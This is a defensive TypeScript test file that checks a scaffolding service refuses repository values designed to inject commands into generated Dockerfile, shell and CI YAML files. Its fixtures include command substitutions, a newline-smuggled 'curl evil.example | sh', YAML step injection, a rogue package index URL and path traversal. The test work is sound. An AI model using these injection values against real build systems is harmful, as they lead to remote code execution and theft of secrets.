/**
 * Issue 17 item 4: values taken from a repository (directory and file names, pyproject dependencies, package.json
 * scripts) never become Dockerfile, shell or YAML text. Each is held to its grammar, or the scaffold is refused with
 * an InvalidParams naming the file and the value: a 400 on REST, never a 500. The fuzz test
 * (test/templates/hostile-fuzz.test.ts) covers the class; these are the review's reproducers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scaffold, WORKFLOW_PATH, type RepoSnapshot } from '../../templates/index.js';
import { startTestServer, type TestServer } from '../helpers/server.js';

const BASE = 'https://pds.example.com';
const plan = (repo: RepoSnapshot, entry?: string) => scaffold({ repo, team: 'acme', component: 'svc', baseUrl: BASE, entry });
const refusal = (repo: RepoSnapshot) => {
  try {
    plan(repo);
  } catch (err) {
    return err as Error & { code?: string };
  }
  throw new Error('scaffold accepted the repository');
};

describe('repository values held to their grammar', () => {
  it('refuses a Go command directory that is not a package path, naming it', () => {
    for (const dir of ['$(id>&2)', 'x\nRUN curl evil.example | sh', 'a b', '`id`', "it's"]) {
      const err = refusal({ paths: ['go.mod', `cmd/${dir}/main.go`] });
      expect(err.code, dir).toBe('INVALID_PARAMS');
      expect(err.message, dir).toContain(`cmd/${dir}/main.go`.replace(/\n/g, '\\n'));
    }
  });

  it('refuses a Python application module whose path is not a module path, naming the file', () => {
    for (const dir of ['$(id)', 'a\nRUN id', 'my-app']) {
      const err = refusal({ paths: ['requirements.txt', `${dir}/main.py`], contents: { [`${dir}/main.py`]: 'app = FastAPI()\n' } });
      expect(err.code, dir).toBe('INVALID_PARAMS');
      expect(err.message, dir).toContain(`${dir}/main.py`.replace(/\n/g, '\\n'));
    }
  });

  it('refuses a pyproject dependency that is not a requirement, naming pyproject.toml and the value', () => {
    for (const dep of ['x\n    - run: curl evil.example', 'x; $(id)', '`id`', '--index-url=http://evil.example', 'x ${{ secrets.TOKEN }}']) {
      const err = refusal({ paths: ['pyproject.toml', 'main.py'], contents: { 'pyproject.toml': `[project]\nname = "svc"\ndependencies = [${JSON.stringify(dep)}]\n`, 'main.py': 'app = FastAPI()\n' } });
      expect(err.code, dep).toBe('INVALID_PARAMS');
      expect(err.message, dep).toContain('pyproject.toml');
      expect(err.message, dep).toContain(JSON.stringify(dep));
    }
  });

  it('refuses a package.json entry script outside the repository', () => {
    const err = refusal({ paths: ['package.json'], contents: { 'package.json': JSON.stringify({ name: 'svc', scripts: { start: 'node ../../etc/x.js' } }) } });
    expect(err.code).toBe('INVALID_PARAMS');
    expect(err.message).toContain('package.json');
  });

  it('starts Python with the module as a positional argument of sh -c, never inside the shell text', () => {
    const p = plan({ paths: ['requirements.txt', 'src/shop/main.py'], contents: { 'src/shop/main.py': 'api = FastAPI()\n' } });
    const cmd = p.files[0]!.content.split('\n').find((l) => l.startsWith('CMD '))!;
    const args = JSON.parse(cmd.slice(4)) as string[];
    expect(args.slice(0, 2)).toEqual(['sh', '-c']);
    expect(args[2]).not.toContain('shop');
    expect(args.slice(3)).toEqual(['shop.main:api', '--app-dir', 'src']);
  });

  it('writes pyproject dependencies into ci.yml as a YAML value, not as script text', () => {
    const p = plan({ paths: ['pyproject.toml', 'main.py'], contents: { 'pyproject.toml': '[project]\nname = "svc"\ndependencies = ["starlette>=0.37", "httpx[http2] ; python_version >= \'3.10\'"]\n', 'main.py': 'app = Starlette()\n' } });
    const ci = p.files.find((f) => f.path === WORKFLOW_PATH)!.content;
    expect(ci).not.toMatch(/pip install .*starlette/);
    const docker = p.files[0]!.content;
    expect(docker).toContain('RUN ["pip", "install", "starlette>=0.37", "httpx[http2] ; python_version >= \'3.10\'"]');
  });
});

describe('POST /api/v1/scaffold with a hostile repository', () => {
  let pds: TestServer;
  beforeAll(async () => {
    pds = await startTestServer();
  });
  afterAll(async () => {
    await pds.stop();
  });

  it('answers 400 naming the file, never 500', async () => {
    const bodies = [
      { team_name: 'acme', component_name: 'svc', files: ['go.mod', 'cmd/$(id>&2)/main.go'] },
      { team_name: 'acme', component_name: 'svc', files: ['pyproject.toml', 'main.py'], file_contents: { 'pyproject.toml': '[project]\nname = "svc"\ndependencies = ["x\\n    - run: id"]\n', 'main.py': 'app = FastAPI()\n' } },
    ];
    for (const body of bodies) {
      const r = await pds.api('root', 'POST', '/api/v1/scaffold', body);
      expect(r.status, JSON.stringify(r.body)).toBe(400);
      expect(JSON.stringify(r.body)).toMatch(/cmd\/\$\(id>&2\)\/main\.go|pyproject\.toml/);
    }
  });
});
